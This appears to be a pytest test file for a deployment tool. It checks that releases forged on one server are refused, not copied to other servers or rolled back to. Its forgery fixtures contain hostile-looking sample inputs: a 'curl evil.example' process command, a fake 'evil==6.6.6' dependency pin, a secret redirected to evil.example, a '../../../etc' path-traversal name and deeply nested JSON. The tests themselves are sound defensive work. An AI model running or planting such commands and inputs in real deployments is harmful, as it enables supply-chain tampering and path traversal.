"""Root on the first web server forges what its folder keeps: nobody else gets it, and the line names that server."""

import gzip
import json
from dataclasses import dataclass, field
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from documents import MANIFEST
from server_here import Here, folder

from cloud_init.host import contracts
from cloud_init.host.contracts.manifest import Manifest
from cloud_init.host.release import wheels
from components.errors import SlipwayError
from components.hosts import progress
from components.hosts.site import Site
from components.release import publishing
from components.release import store as stored
from components.release.core import identity
from components.rollout import coordinator
from components.source.archive import collect
from components.ssh.store import Server, ServersStore
from ops.stack.engines import Launcher

KEY = "k" * 64
SECRETS = {"secret_environment": {"TOKEN": "s"}, "database_environment": {"DATABASE_URL": "d"}, "database_secrets": {"password": "p"}}


@dataclass
class Stack:
    """Two web servers and one for the database; `release` was published by another deployer."""

    folder: Path
    release: str = ""
    props: dict[str, Any] = field(default_factory=dict)

    def store(self):
        """That of a deployer who published nothing yet."""
        servers = []
        for name, role in (("one", "web"), ("two", "web"), ("db", "database")):
            servers.append(Server(name, role, folder(self.folder / name, Here())))
        return ServersStore(servers, "ssh:")

    def at(self, name, server="one"):
        return self.folder / server / name

    @property
    def manifest(self):
        return self.at(f"releases/{self.release}/manifest.json")

    @property
    def secrets(self):
        return self.at(f"secrets/web/{self.release}.json")

    @property
    def archive(self):
        return self.at(f"releases/code/{json.loads(self.props['manifest'])['code']['id']}.tar.gz")


@pytest.fixture
def stack(tmp_path):
    app = tmp_path / "app"
    app.mkdir()
    (app / "wsgi.py").write_text("app = None\n")
    code = collect(app)
    manifest = contracts.read(Manifest, {**MANIFEST, "code": {"id": code.id, "sha256": code.sha256}})
    environment = {**SECRETS["database_environment"], **SECRETS["secret_environment"]}
    release = identity(KEY, manifest, {**environment, "": json.dumps(SECRETS["database_secrets"], sort_keys=True)})
    props = {"release": release, "manifest": json.dumps(contracts.document(manifest)), "source": str(app), **SECRETS}
    made = Stack(tmp_path, release, props)
    for name in ("one", "two", "db"):
        (tmp_path / name).mkdir()
    publishing.publish(made.store(), props)
    return made


def another_process(stack):
    document = json.loads(stack.manifest.read_text())
    stack.manifest.write_text(json.dumps({**document, "processes": {"worker": "curl evil.example"}}))


def another_archive(stack):
    stack.archive.write_bytes(gzip.compress(b"another"))


def another_archive_and_its_hash(stack):
    import hashlib

    another_archive(stack)
    document = json.loads(stack.manifest.read_text())
    document["code"]["sha256"] = hashlib.sha256(b"another").hexdigest()
    stack.manifest.write_text(json.dumps(document))


def another_secret(stack):
    stack.secrets.write_text(json.dumps({"TOKEN": "s", "DATABASE_URL": "evil.example"}))


def another_list_of_versions(stack):
    listed(stack).write_text("evil==6.6.6 --hash=sha256:" + 64 * "0" + "\n")


def listed(stack):
    return stack.at(wheels.list_of(stack.release))


FORGERIES = {
    "another list of versions": another_list_of_versions,
    "another process": another_process,
    "another archive": another_archive,
    "another archive and its hash": another_archive_and_its_hash,
    "another secret": another_secret,
    "no secrets": lambda stack: stack.secrets.unlink(),
    "secrets of another kind": lambda stack: stack.secrets.write_text("[1]"),
    "secrets nested thousands deep": lambda stack: stack.secrets.write_text("[" * 100_000),
    "an archive that is none": lambda stack: stack.archive.write_bytes(b"none"),
}


def bring(stack, key=KEY):
    stack.store().bring("two", stack.release, lambda: key)


def test_what_was_published_is_given_on(stack):
    bring(stack)
    for name in (stack.manifest, stack.archive, stack.secrets):
        assert stack.at(name.relative_to(stack.folder / "one"), "two").read_bytes() == name.read_bytes()


def test_the_versions_are_given_on(stack):
    text = f"x==1 --hash=sha256:{64 * 'a'}\n"
    listed(stack).write_bytes(publishing.signed(KEY, stack.release, text))
    bring(stack)
    assert publishing.verified(KEY, stack.release, stack.at(wheels.list_of(stack.release), "two").read_bytes()) == text


@pytest.mark.parametrize("forgery", FORGERIES)
def test_what_was_forged_is_given_to_nobody(stack, forgery):
    FORGERIES[forgery](stack)
    with pytest.raises(
        SlipwayError, match=f"one: store: wanted release {stack.release} as it was published, found another .*; two gets none"
    ):
        bring(stack)
    assert not [*stack.at("", "two").iterdir()]


def test_a_rollback_to_it_is_refused_before_anything_changes(stack):
    another_process(stack)
    site = Site(stack.store(), [SimpleNamespace(host=name, role="web") for name in ("one", "two")], "http://one", key=lambda: KEY)
    with pytest.raises(SlipwayError, match="one: store: wanted release"):
        coordinator.rollback(site, stack.release)
    assert not stack.at("desired.json").exists()


def test_without_the_key_nothing_is_given_on_unchecked(stack):
    with pytest.raises(SlipwayError, match=r"two lacks release .* can't be checked without this stack's state; run it where"):
        bring(stack, key="")
    assert not [*stack.at("", "two").iterdir()]


def test_what_a_deployer_published_is_read_from_no_server_again(stack):
    """Forged at once, it would say which tool new servers take, and how the release is checked."""
    store = stack.store()
    publishing.publish(store, stack.props)
    before = stack.manifest.read_bytes()
    another_process(stack)
    another_secret(stack)
    assert store.get(f"releases/{stack.release}/manifest.json") == before
    store.bring("two", stack.release, lambda: "")
    assert stack.at(f"releases/{stack.release}/manifest.json", "two").read_bytes() == before


def test_an_archive_that_was_changed_after_it_was_found_whole_is_given_to_nobody(stack):
    store = stack.store()
    publishing.publish(store, stack.props)  # it finds the archive there, and writes none
    another_archive(stack)
    with pytest.raises(SlipwayError, match="one: store: wanted release"):
        store.bring("two", stack.release, lambda: KEY)


@pytest.mark.parametrize("number", ["-1", "1000000000", "1" + "0" * 400, "1" + "0" * 5000, '"7"', "[" * 100_000])
def test_a_number_that_nobody_came_to_is_refused(stack, number):
    stack.at("desired.json").write_text(f'{{"generation": {number}}}')
    store = stack.store()
    with pytest.raises(SlipwayError, match=r"one: .*desired\.json.* is damaged"):
        coordinator.desired(store)
    with pytest.raises(SlipwayError, match=r"one: .*desired\.json.* is damaged"), store.lock("up"):
        pass
    assert not stack.at("desired.json", "two").exists()


def test_another_ones_number_that_nobody_came_to_says_nothing(stack):
    stack.at("desired.json", "two").write_text('{"generation": 1000000000}')
    told: list[str] = []
    with progress.listen(lambda step: told.append(step.text)), stack.store().lock("up"):
        pass
    assert any("two: " in text and "is damaged" in text for text in told)


def test_a_number_that_was_lifted_is_counted_on_from(stack):
    """It says who wrote last, and nothing else: hosts take whatever is higher."""
    stack.at("desired.json").write_text('{"generation": 999, "live": "../../../etc"}')
    store = stack.store()
    assert stored.write_desired(store, stored.desired(store), "up", None).state.generation == 1000
    with pytest.raises(SlipwayError, match="wanted the name of an object"):
        store.bring("two", "../../../etc", lambda: KEY)


@pytest.mark.parametrize("by_cli", [True, False])
def test_the_key_is_the_states(by_cli, monkeypatch):
    urn = "urn:pulumi:dev::shop::slipway:target:Ssh$pulumi-python:dynamic/components.providers:RandomSecret::shop-key"
    known: list[Any] = []
    held = lambda: SimpleNamespace(resources=known)  # noqa: E731
    work: Any = SimpleNamespace(settings=SimpleNamespace(app=SimpleNamespace(name="shop")), state=held)
    launcher = Launcher(Any, work, by_cli)  # type: ignore[arg-type]
    signature = {"4dabf18193072939515e22adb298388d": "1b47061264138c4ac30d75fd1eb44270", "plaintext": json.dumps(KEY)}
    monkeypatch.setattr(Launcher, "cli", lambda _: SimpleNamespace(state=lambda: [{"urn": urn, "outputs": {"value": signature}}]))
    known += [SimpleNamespace(urn=f"{urn}-owner", outputs={"value": "no"}), SimpleNamespace(urn=urn, outputs={"value": KEY})]
    assert launcher.release_key() == KEY
    known.clear()
    assert by_cli or launcher.release_key() == ""
